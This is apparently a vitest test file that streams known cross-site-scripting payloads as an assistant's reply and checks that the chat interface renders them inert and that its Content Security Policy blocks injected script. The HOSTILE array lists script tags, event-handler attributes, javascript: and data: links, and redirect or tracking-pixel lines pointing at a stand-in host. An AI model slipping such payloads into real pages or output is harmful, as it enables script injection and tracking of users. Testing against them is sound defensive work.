import { expect, test } from "vitest";
import { setStage } from "../harness/stage.js";

/** What a model may be talked into saying; each would set `document.title` or call somebody if it ran. */
const HOSTILE = [
  `<script>document.title = "ran"</script>`,
  `<img src=x onerror="document.title='ran'">`,
  `<svg onload="document.title='ran'"></svg>`,
  `<iframe srcdoc="<script>parent.document.title='ran'</script>"></iframe>`,
  `<a href="javascript:document.title='ran'">click me</a>`,
  `[link](javascript:document.title='ran')`,
  `[link]( JaVaScRiPt:document.title='ran')`,
  `[link](java\nscript:document.title='ran')`,
  `[link](data:text/html,<script>opener.document.title='ran'</script>)`,
  `[link](vbscript:x)`,
  `![image](https://tracker.example/pixel.png?secret)`,
  `![image](javascript:document.title='ran')`,
  `![x" onerror="document.title='ran'](x)`,
  `<style>body { display: none }</style>`,
  `<form action="https://tracker.example/"><input name=a autofocus onfocus="document.title='ran'"></form>`,
  `<object data="data:text/html,<script>top.document.title='ran'</script>"></object>`,
  `<base href="https://tracker.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://tracker.example/">`,
  `<math><mi xlink:href="javascript:document.title='ran'">x</mi></math>`,
  "```html\n<script>document.title = 'ran'</script>\n```",
  "`<script>document.title = 'ran'</script>`",
  `[ref]: javascript:document.title='ran'\n\n[ref]`,
  `<javascript:document.title='ran'>`,
  `"><script>document.title = "ran"</script>`,
];

// In pieces of five characters, so that every construct is also seen half.
const stage = setStage((asked) => ({
  pieces: (HOSTILE[Number(asked)] ?? asked).match(/[^]{1,5}/g) ?? [],
  paceMs: 2,
}));

test("script in a model's output is inert, whole or in parts", { timeout: 120_000 }, async () => {
  const studio = await stage().open();
  await studio.converse("echo");
  for (const [index] of HOSTILE.entries()) {
    await studio.say(String(index));
    await expect
      .poll(async () =>
        (await studio.shown()).filter(({ role }) => role === "assistant").map(({ status }) => status),
      )
      .toEqual(Array.from({ length: index + 1 }, () => "completed"));
  }
  const texts = studio.page.locator('[data-role="assistant"] [data-testid="message-text"]');
  for (const link of await texts.locator("a").all()) {
    expect(await link.getAttribute("href")).toMatch(/^(?:https?:|mailto:)/);
    expect(await link.getAttribute("rel")).toContain("noopener");
  }
  const foreign = texts.locator(
    "script, iframe, object, embed, form, input, style, base, meta, svg:not(.icon), math, [onerror], [onload]",
  );
  expect(await foreign.evaluateAll((elements) => elements.map((element) => element.outerHTML))).toEqual([]);
  expect(await studio.page.title()).not.toContain("ran");
  // What cannot be shown as intended is still shown as text.
  await expect
    .poll(async () => (await texts.allTextContents()).join("\n"))
    .toContain(`document.title = "ran"`);
});

test("the page's own policy would stop what the rendering let through", async () => {
  const studio = await stage().open();
  await studio.page.evaluate(() => {
    const image = document.createElement("img");
    image.setAttribute("onerror", "document.title = 'ran'");
    image.src = "/nothing.png";
    const script = document.createElement("script");
    script.textContent = "document.title = 'ran'";
    document.body.append(image, script);
  });
  await expect.poll(() => studio.errors.length).toBeGreaterThanOrEqual(2);
  expect(await studio.page.title()).not.toBe("ran");
  expect(studio.errors.splice(0).join("\n")).toContain("Content Security Policy");
});
